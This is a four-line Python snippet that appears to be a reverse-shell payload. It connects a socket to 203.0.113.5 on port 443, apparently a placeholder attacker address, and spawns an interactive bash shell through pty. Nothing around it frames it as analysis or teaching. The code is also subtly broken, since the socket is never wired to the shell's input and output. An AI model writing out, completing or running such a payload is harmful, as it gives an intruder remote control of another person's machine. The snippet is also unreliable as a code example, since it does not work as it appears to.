import pty
import socket

c = socket.create_connection(("203.0.113.5", 443))
pty.spawn("/bin/bash")
